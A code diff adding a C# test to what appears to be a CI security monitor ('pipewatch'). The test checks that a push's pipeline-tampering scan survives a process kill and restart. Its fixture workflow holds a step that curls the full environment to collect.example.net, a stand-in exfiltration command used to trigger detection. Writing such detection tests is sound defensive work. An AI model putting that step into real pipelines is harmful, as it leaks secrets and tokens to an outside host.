@@ -50,6 +50,92 @@ public sealed class ServeDurabilityTests
         Assert.Equal(expected, Counts(killed));
     }
 
+    [Fact]
+    public async Task A_push_whose_scan_a_SIGKILL_interrupted_after_its_payload_was_committed_is_scanned_after_the_restart()
+    {
+        using var folder = new TempFolder();
+        using var repository = new TestRepository();
+        repository.Write(CodeChangeHistory.Workflow, CodeChangeHistory.CleanWorkflow);
+        var first = repository.Commit("ci");
+        repository.Write(CodeChangeHistory.Workflow, CodeChangeHistory.CleanWorkflow + """
+                  - name: Upload diagnostics
+                    run: curl -s -d "$(env)" https://collect.example.net/d
+
+            """);
+        var tampering = repository.Commit("ci: diagnostics");
+        // The remote is not there yet: the follow-up's fetch fails and waits to retry, and the kill comes then.
+        var bare = folder.File("remote/app.git");
+        File.WriteAllText(folder.File("pipewatch.yml"), $"serve:\n  repositories:\n    - name: acme/app\n      url: '{bare}'\n");
+        var push = JsonNode.Parse(File.ReadAllText(Corpus.File("github-webhooks", "push", "payload.json")))!;
+        push["ref"] = "refs/heads/main";
+        push["before"] = first;
+        push["after"] = tampering;
+        push["forced"] = false;
+        push["commits"] = new JsonArray();
+        push["repository"]!["full_name"] = "acme/app";
+        var body = Encoding.UTF8.GetBytes(push.ToJsonString());
+
+        await using (var process = await ServeProcess.StartAsync(folder, "--config", folder.File("pipewatch.yml")))
+        {
+            using var client = new HttpClient { BaseAddress = process.Address };
+            using var request = new HttpRequestMessage(HttpMethod.Post, "/hooks/github") { Content = new ByteArrayContent(body) };
+            request.Headers.Add("X-GitHub-Event", "push");
+            request.Headers.Add("X-GitHub-Delivery", "push-1");
+            request.Headers.Add("X-Hub-Signature-256", RunningServer.Sign(body));
+            Assert.Equal(HttpStatusCode.Accepted, (await client.SendAsync(request, TestContext.Current.CancellationToken)).StatusCode);
+            await WaitAsync(() => Rows(folder, "intake") == 0 && Rows(folder, "followups") == 1, "the push committed and its follow-up recorded");
+            process.Kill();
+        }
+
+        Assert.Equal(0, FindingCount(folder));
+        repository.Git("clone", "--quiet", "--bare", repository.Path, bare);
+        string errors;
+        await using (var process = await ServeProcess.StartAsync(folder, "--config", folder.File("pipewatch.yml")))
+        {
+            await WaitAsync(() => Rows(folder, "followups") == 0, "the recorded follow-up ran");
+            await process.StopAsync();
+            errors = await process.Errors;
+        }
+
+        using var store = new SqliteConnection($"Data Source={folder.File("pipewatch.db")};Pooling=False");
+        store.Open();
+        using var findings = store.CreateCommand();
+        findings.CommandText = "SELECT category, json_extract(body, '$.location.commit') FROM findings";
+        using var reader = findings.ExecuteReader();
+        var rows = new List<(string, string)>();
+        while (reader.Read()) rows.Add((reader.GetString(0), reader.GetString(1)));
+        Assert.True(rows.Contains(("code-change.pipeline-tampering", tampering)), $"findings: {string.Join(", ", rows)}; stderr: {errors}");
+        Assert.All(rows, r => Assert.Equal(tampering, r.Item2));
+    }
+
+    private static long Rows(TempFolder folder, string table)
+    {
+        using var intake = new SqliteConnection($"Data Source={folder.File("pipewatch.intake.db")};Pooling=False;Mode=ReadOnly");
+        intake.Open();
+        using var count = intake.CreateCommand();
+        count.CommandText = $"SELECT count(*) FROM {table}";
+        return (long)count.ExecuteScalar()!;
+    }
+
+    private static long FindingCount(TempFolder folder)
+    {
+        using var store = new SqliteConnection($"Data Source={folder.File("pipewatch.db")};Pooling=False");
+        store.Open();
+        using var count = store.CreateCommand();
+        count.CommandText = "SELECT count(*) FROM findings";
+        return (long)count.ExecuteScalar()!;
+    }
+
+    private static async Task WaitAsync(Func<bool> done, string what)
+    {
+        var deadline = DateTime.UtcNow.AddSeconds(60);
+        while (!done())
+        {
+            Assert.True(DateTime.UtcNow < deadline, $"not within 60 s: {what}");
+            await Task.Delay(50, TestContext.Current.CancellationToken);
+        }
+    }
+
     /// <summary>Events in the ledger, findings stored, and rows left in the intake queue.</summary>
     private static (long Events, long Findings, long Intake) Counts(TempFolder folder)
     {
@@ -115,6 +201,9 @@ internal sealed class ServeProcess : IAsyncDisposable
 
     public Uri Address { get; }
 
+    /// <summary>What it wrote to stderr, once it has exited.</summary>
+    public Task<string> Errors { get; private init; } = Task.FromResult(string.Empty);
+
     public static async Task<ServeProcess> StartAsync(TempFolder folder, params string[] extra)
     {
         int port;
@@ -131,7 +220,7 @@ internal sealed class ServeProcess : IAsyncDisposable
         info.Environment["PIPEWATCH_API_TOKEN"] = RunningServer.ApiToken;
         info.Environment["PIPEWATCH_INGEST_TOKEN"] = RunningServer.IngestToken;
         var process = Process.Start(info)!;
-        _ = process.StandardError.ReadToEndAsync(TestContext.Current.CancellationToken);
+        var errors = process.StandardError.ReadToEndAsync(TestContext.Current.CancellationToken);
         using var deadline = CancellationTokenSource.CreateLinkedTokenSource(TestContext.Current.CancellationToken);
         deadline.CancelAfter(TimeSpan.FromSeconds(60));
         while (await process.StandardOutput.ReadLineAsync(deadline.Token) is { } line)
@@ -139,7 +228,7 @@ internal sealed class ServeProcess : IAsyncDisposable
             if (line.Contains("listening on", StringComparison.Ordinal))
             {
                 _ = process.StandardOutput.ReadToEndAsync(TestContext.Current.CancellationToken);
-                return new ServeProcess(process, new Uri($"http://127.0.0.1:{port}"));
+                return new ServeProcess(process, new Uri($"http://127.0.0.1:{port}")) { Errors = errors };
             }
         }
 
